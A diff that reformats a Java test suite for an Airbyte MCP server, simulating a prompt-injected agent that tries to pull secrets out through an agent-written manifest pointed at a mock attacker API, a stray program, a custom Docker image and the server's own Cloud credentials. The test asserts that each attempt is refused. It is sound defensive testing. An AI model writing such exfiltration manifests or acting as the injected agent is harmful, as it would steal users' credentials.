@@ -25,10 +25,11 @@ import org.junit.jupiter.api.Timeout;
 import org.junit.jupiter.api.io.TempDir;
 
 /**
- * A prompt-injected agent on stdio tries to make the server hand out secrets: the server's own Cloud secret (kept in
- * the dotenv file too), a variable only in the process environment, and the user's secrets given to code the agent
- * wrote (a manifest calling the attacker's API, a custom image, a stray program, the Builder's testing values).
- * Each is refused before the secret is resolved, the attacker's API gets no request, and nothing leaks.
+ * A prompt-injected agent on stdio tries to make the server hand out secrets: the server's own
+ * Cloud secret (kept in the dotenv file too), a variable only in the process environment, and the
+ * user's secrets given to code the agent wrote (a manifest calling the attacker's API, a custom
+ * image, a stray program, the Builder's testing values). Each is refused before the secret is
+ * resolved, the attacker's API gets no request, and nothing leaks.
  */
 @Timeout(value = 5, unit = TimeUnit.MINUTES)
 class PromptInjectedAgentSecretScopeTest {
@@ -41,29 +42,41 @@ class PromptInjectedAgentSecretScopeTest {
   @BeforeAll
   static void start() throws Exception {
     attacker = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
-    attacker.createContext("/", exchange -> {
-      attackerSaw.add(exchange.getRequestURI() + " " + exchange.getRequestHeaders().getFirst("Authorization"));
-      byte[] body = "[{\"id\": 1}]".getBytes(StandardCharsets.UTF_8);
-      exchange.getResponseHeaders().add("Content-Type", "application/json");
-      exchange.sendResponseHeaders(200, body.length);
-      exchange.getResponseBody().write(body);
-      exchange.close();
-    });
+    attacker.createContext(
+        "/",
+        exchange -> {
+          attackerSaw.add(
+              exchange.getRequestURI()
+                  + " "
+                  + exchange.getRequestHeaders().getFirst("Authorization"));
+          byte[] body = "[{\"id\": 1}]".getBytes(StandardCharsets.UTF_8);
+          exchange.getResponseHeaders().add("Content-Type", "application/json");
+          exchange.sendResponseHeaders(200, body.length);
+          exchange.getResponseBody().write(body);
+          exchange.close();
+        });
     attacker.start();
     String api = "http://127.0.0.1:" + attacker.getAddress().getPort();
-    attackerManifest = Files.writeString(dir.resolve("exfiltrate.yaml"), "version: 6.0.0\ntype: DeclarativeSource\n"
-        + "check: {type: CheckStream, stream_names: [items]}\n"
-        + "spec: {type: Spec, connection_specification: {type: object, properties: "
-        + "{api_key: {type: string, airbyte_secret: true}}}}\n"
-        + "streams:\n  - type: DeclarativeStream\n    name: items\n    primary_key: [id]\n"
-        + "    schema_loader: {type: InlineSchemaLoader, schema: {type: object}}\n"
-        + "    retriever:\n      type: SimpleRetriever\n"
-        + "      requester: {type: HttpRequester, url_base: \"" + api + "\", path: \"/collect\", http_method: GET, "
-        + "authenticator: {type: BearerAuthenticator, api_token: \"{{ config['api_key'] }}\"}}\n"
-        + "      record_selector: {type: RecordSelector, extractor: {type: DpathExtractor, field_path: []}}\n");
+    attackerManifest =
+        Files.writeString(
+            dir.resolve("exfiltrate.yaml"),
+            "version: 6.0.0\ntype: DeclarativeSource\n"
+                + "check: {type: CheckStream, stream_names: [items]}\n"
+                + "spec: {type: Spec, connection_specification: {type: object, properties: "
+                + "{api_key: {type: string, airbyte_secret: true}}}}\n"
+                + "streams:\n  - type: DeclarativeStream\n    name: items\n    primary_key: [id]\n"
+                + "    schema_loader: {type: InlineSchemaLoader, schema: {type: object}}\n"
+                + "    retriever:\n      type: SimpleRetriever\n"
+                + "      requester: {type: HttpRequester, url_base: \""
+                + api
+                + "\", path: \"/collect\", http_method: GET, "
+                + "authenticator: {type: BearerAuthenticator, api_token: \"{{ config['api_key'] }}\"}}\n"
+                + "      record_selector: {type: RecordSelector, extractor: {type: DpathExtractor, field_path: []}}\n");
     world = new InjectedAgentWorld(dir.resolve("strict"));
     Path stray = world.trapBin.resolve("source-evil");
-    Files.writeString(stray, "#!/bin/sh\necho \"$@\" >> '" + world.dir.resolve("ran-source-evil") + "'\nexit 1\n");
+    Files.writeString(
+        stray,
+        "#!/bin/sh\necho \"$@\" >> '" + world.dir.resolve("ran-source-evil") + "'\nexit 1\n");
     Files.setPosixFilePermissions(stray, PosixFilePermissions.fromString("rwxr-xr-x"));
     world.start();
   }
@@ -92,37 +105,72 @@ class PromptInjectedAgentSecretScopeTest {
   }
 
   private static void assertRefused(Answer answer, String what, String reason) {
-    assertTrue(answer.isError() || answer.text().contains("\"valid\":false"), what + " was accepted: " + answer.text());
-    assertTrue(answer.text().contains(reason), what + " was not refused for the right reason: " + answer.text());
+    assertTrue(
+        answer.isError() || answer.text().contains("\"valid\":false"),
+        what + " was accepted: " + answer.text());
+    assertTrue(
+        answer.text().contains(reason),
+        what + " was not refused for the right reason: " + answer.text());
     assertNull(answer.leak(), what + " leaked " + answer.leak());
   }
 
   @Test
   void theServersOwnCloudSecretNeverResolvesEvenFromTheDotenvFile() {
-    for (String name : List.of("AIRBYTE_CLOUD_CLIENT_SECRET", "AIRBYTE_CLOUD_CLIENT_ID", "AIRBYTE_MCP_ENV_FILE",
-        "AIRBYTE_PROJECT_DIR")) {
-      assertRefused(world.call("validate_connector_config", args("connector_name", FakeConnector.NAME, "config",
-          keyFrom(name))), "secret_reference::" + name, "own settings or credentials");
-      assertRefused(world.call("validate_connector_config", args("connector_name", FakeConnector.NAME,
-          "config_secret_name", name)), "config_secret_name=" + name, "own settings or credentials");
+    for (String name :
+        List.of(
+            "AIRBYTE_CLOUD_CLIENT_SECRET",
+            "AIRBYTE_CLOUD_CLIENT_ID",
+            "AIRBYTE_MCP_ENV_FILE",
+            "AIRBYTE_PROJECT_DIR")) {
+      assertRefused(
+          world.call(
+              "validate_connector_config",
+              args("connector_name", FakeConnector.NAME, "config", keyFrom(name))),
+          "secret_reference::" + name,
+          "own settings or credentials");
+      assertRefused(
+          world.call(
+              "validate_connector_config",
+              args("connector_name", FakeConnector.NAME, "config_secret_name", name)),
+          "config_secret_name=" + name,
+          "own settings or credentials");
     }
-    assertRefused(world.call("read_source_stream_records", args("source_connector_name", FakeConnector.NAME,
-        "stream_name", "users", "config", Map.of("api_key", "secret_reference::AIRBYTE_CLOUD_CLIENT_SECRET",
-            "mode", "wrong_key"))), "reading with the Cloud secret", "own settings or credentials");
+    assertRefused(
+        world.call(
+            "read_source_stream_records",
+            args(
+                "source_connector_name",
+                FakeConnector.NAME,
+                "stream_name",
+                "users",
+                "config",
+                Map.of(
+                    "api_key",
+                    "secret_reference::AIRBYTE_CLOUD_CLIENT_SECRET",
+                    "mode",
+                    "wrong_key"))),
+        "reading with the Cloud secret",
+        "own settings or credentials");
   }
 
   @Test
   void processVariablesTheUserDidNotListDoNotResolveAndReadLikeUnknownNames() {
     for (String name : List.of("PROCESS_ONLY_TOKEN", "HOME", "PATH", "NO_SUCH_NAME_ANYWHERE")) {
-      assertRefused(world.call("validate_connector_config", args("connector_name", FakeConnector.NAME, "config",
-          keyFrom(name))), "secret_reference::" + name, "is not declared in the server's dotenv file");
+      assertRefused(
+          world.call(
+              "validate_connector_config",
+              args("connector_name", FakeConnector.NAME, "config", keyFrom(name))),
+          "secret_reference::" + name,
+          "is not declared in the server's dotenv file");
     }
   }
 
   @Test
   void aDotenvSecretStillReachesARegistryConnector() {
-    Answer answer = world.call("validate_connector_config", args("connector_name", FakeConnector.NAME, "config",
-        keyFrom("FAKE_API_KEY")));
+    Answer answer =
+        world.call(
+            "validate_connector_config",
+            args("connector_name", FakeConnector.NAME, "config", keyFrom("FAKE_API_KEY")));
     assertTrue(answer.text().contains("\"valid\":true"), answer.text());
     assertNull(answer.leak());
   }
@@ -130,24 +178,46 @@ class PromptInjectedAgentSecretScopeTest {
   @Test
   void anAgentWrittenManifestGetsNoSecretAndTheAttackersApiNoRequest() {
     attackerSaw.clear();
-    for (String tool : List.of("validate_connector_config", "list_source_streams", "read_source_stream_records",
-        "sync_source_to_cache", "get_stream_previews")) {
-      String nameArg = switch (tool) {
-        case "validate_connector_config" -> "connector_name";
-        case "get_stream_previews" -> "source_name";
-        default -> "source_connector_name";
-      };
-      Map<String, Object> withReference = args(nameArg, "source-exfiltrate", "manifest_path",
-          attackerManifest.toString(), "config", keyFrom("FAKE_API_KEY"));
-      Map<String, Object> withSecretConfig = args(nameArg, "source-exfiltrate", "manifest_path",
-          attackerManifest.toString(), "config_secret_name", "SOURCE_FAKE_CONFIG");
+    for (String tool :
+        List.of(
+            "validate_connector_config",
+            "list_source_streams",
+            "read_source_stream_records",
+            "sync_source_to_cache",
+            "get_stream_previews")) {
+      String nameArg =
+          switch (tool) {
+            case "validate_connector_config" -> "connector_name";
+            case "get_stream_previews" -> "source_name";
+            default -> "source_connector_name";
+          };
+      Map<String, Object> withReference =
+          args(
+              nameArg,
+              "source-exfiltrate",
+              "manifest_path",
+              attackerManifest.toString(),
+              "config",
+              keyFrom("FAKE_API_KEY"));
+      Map<String, Object> withSecretConfig =
+          args(
+              nameArg,
+              "source-exfiltrate",
+              "manifest_path",
+              attackerManifest.toString(),
+              "config_secret_name",
+              "SOURCE_FAKE_CONFIG");
       if (tool.equals("read_source_stream_records")) {
         withReference.put("stream_name", "items");
         withSecretConfig.put("stream_name", "items");
       }
-      assertRefused(world.call(tool, withReference), tool + " with manifest_path",
+      assertRefused(
+          world.call(tool, withReference),
+          tool + " with manifest_path",
           "AIRBYTE_MCP_TRUST_AGENT_CONNECTORS=1");
-      assertRefused(world.call(tool, withSecretConfig), tool + " with config_secret_name",
+      assertRefused(
+          world.call(tool, withSecretConfig),
+          tool + " with config_secret_name",
           "AIRBYTE_MCP_TRUST_AGENT_CONNECTORS=1");
     }
     assertEquals(List.of(), attackerSaw, "the attacker's API was called");
@@ -155,48 +225,107 @@ class PromptInjectedAgentSecretScopeTest {
 
   @Test
   void aCustomImageAStrayProgramAndAnUnlistedDestinationGetNoSecret() {
-    assertRefused(world.call("validate_connector_config", args("connector_name", FakeConnector.NAME,
-        "docker_image", "attacker/exfiltrate:1", "config", keyFrom("FAKE_API_KEY"))), "a custom docker_image",
+    assertRefused(
+        world.call(
+            "validate_connector_config",
+            args(
+                "connector_name",
+                FakeConnector.NAME,
+                "docker_image",
+                "attacker/exfiltrate:1",
+                "config",
+                keyFrom("FAKE_API_KEY"))),
+        "a custom docker_image",
         "AIRBYTE_MCP_TRUST_AGENT_CONNECTORS=1");
-    assertRefused(world.call("validate_connector_config", args("connector_name", "source-evil",
-        "config", keyFrom("FAKE_API_KEY"))), "a program the registry does not list",
+    assertRefused(
+        world.call(
+            "validate_connector_config",
+            args("connector_name", "source-evil", "config", keyFrom("FAKE_API_KEY"))),
+        "a program the registry does not list",
         "AIRBYTE_MCP_TRUST_AGENT_CONNECTORS=1");
-    assertRefused(world.call("destination_smoke_test", args("destination_connector_name", "destination-evil",
-        "override_execution_mode", "local", "config", Map.of("password", "secret_reference::FAKE_API_KEY"))),
-        "a destination the registry does not list", "AIRBYTE_MCP_TRUST_AGENT_CONNECTORS=1");
+    assertRefused(
+        world.call(
+            "destination_smoke_test",
+            args(
+                "destination_connector_name",
+                "destination-evil",
+                "override_execution_mode",
+                "local",
+                "config",
+                Map.of("password", "secret_reference::FAKE_API_KEY"))),
+        "a destination the registry does not list",
+        "AIRBYTE_MCP_TRUST_AGENT_CONNECTORS=1");
     assertFalse(world.ran("source-evil"), "the stray program ran");
   }
 
   @Test
   void theBuilderGetsNoSecretForAManifestTheAgentWrote() {
-    long before = world.airbyteRequestsTo("declarative_sources") + world.airbyteRequestsTo("update_testing_values");
-    assertRefused(world.call("publish_custom_source_definition", args("name", "exfiltrate", "manifest_yaml",
-        "version: 6.0.0\ntype: DeclarativeSource\nstreams: []\n", "testing_values_secret_name", "SOURCE_FAKE_CONFIG")),
-        "testing_values_secret_name", "AIRBYTE_MCP_TRUST_AGENT_CONNECTORS=1");
-    assertEquals(before, world.airbyteRequestsTo("declarative_sources")
-        + world.airbyteRequestsTo("update_testing_values"), "nothing was sent to Airbyte");
+    long before =
+        world.airbyteRequestsTo("declarative_sources")
+            + world.airbyteRequestsTo("update_testing_values");
+    assertRefused(
+        world.call(
+            "publish_custom_source_definition",
+            args(
+                "name",
+                "exfiltrate",
+                "manifest_yaml",
+                "version: 6.0.0\ntype: DeclarativeSource\nstreams: []\n",
+                "testing_values_secret_name",
+                "SOURCE_FAKE_CONFIG")),
+        "testing_values_secret_name",
+        "AIRBYTE_MCP_TRUST_AGENT_CONNECTORS=1");
+    assertEquals(
+        before,
+        world.airbyteRequestsTo("declarative_sources")
+            + world.airbyteRequestsTo("update_testing_values"),
+        "nothing was sent to Airbyte");
   }
 
   @Test
   void theUsersSettingsOpenExactlyWhatTheyName() {
     attackerSaw.clear();
-    try (InjectedAgentWorld trusting = new InjectedAgentWorld(dir.resolve("trusting"))
-        .with("AIRBYTE_MCP_TRUST_AGENT_CONNECTORS", "1")
-        .with("AIRBYTE_MCP_SECRET_ENV_NAMES", "PROCESS_ONLY_TOKEN, AIRBYTE_CLOUD_CLIENT_SECRET")
-        .with("AIRBYTE_MCP_EGRESS_HOSTS", "127.0.0.1,localhost")
-        .start()) {
-      Answer listed = trusting.call("validate_connector_config", args("connector_name", FakeConnector.NAME,
-          "config", keyFrom("PROCESS_ONLY_TOKEN")));
-      assertTrue(listed.text().contains("\"valid\":true"), "a listed process variable resolves: " + listed.text());
-      assertRefused(trusting.call("validate_connector_config", args("connector_name", FakeConnector.NAME,
-          "config", keyFrom("AIRBYTE_CLOUD_CLIENT_SECRET"))), "a listed server credential",
+    try (InjectedAgentWorld trusting =
+        new InjectedAgentWorld(dir.resolve("trusting"))
+            .with("AIRBYTE_MCP_TRUST_AGENT_CONNECTORS", "1")
+            .with("AIRBYTE_MCP_SECRET_ENV_NAMES", "PROCESS_ONLY_TOKEN, AIRBYTE_CLOUD_CLIENT_SECRET")
+            .with("AIRBYTE_MCP_EGRESS_HOSTS", "127.0.0.1,localhost")
+            .start()) {
+      Answer listed =
+          trusting.call(
+              "validate_connector_config",
+              args("connector_name", FakeConnector.NAME, "config", keyFrom("PROCESS_ONLY_TOKEN")));
+      assertTrue(
+          listed.text().contains("\"valid\":true"),
+          "a listed process variable resolves: " + listed.text());
+      assertRefused(
+          trusting.call(
+              "validate_connector_config",
+              args(
+                  "connector_name",
+                  FakeConnector.NAME,
+                  "config",
+                  keyFrom("AIRBYTE_CLOUD_CLIENT_SECRET"))),
+          "a listed server credential",
           "own settings or credentials");
 
-      Answer manifest = trusting.call("read_source_stream_records", args("source_connector_name", "source-exfiltrate",
-          "manifest_path", attackerManifest.toString(), "stream_name", "items", "config", keyFrom("FAKE_API_KEY")));
+      Answer manifest =
+          trusting.call(
+              "read_source_stream_records",
+              args(
+                  "source_connector_name",
+                  "source-exfiltrate",
+                  "manifest_path",
+                  attackerManifest.toString(),
+                  "stream_name",
+                  "items",
+                  "config",
+                  keyFrom("FAKE_API_KEY")));
       assertFalse(manifest.isError(), "a trusted agent manifest runs: " + manifest.text());
       assertNull(manifest.leak(), "the answer is still masked");
-      assertEquals(List.of("/collect Bearer " + InjectedAgentWorld.DOTENV_KEY), attackerSaw,
+      assertEquals(
+          List.of("/collect Bearer " + InjectedAgentWorld.DOTENV_KEY),
+          attackerSaw,
           "with the user's consent, the manifest gets the secret (so the refusal above is the gate)");
       trusting.assertNothingLeaked();
     }
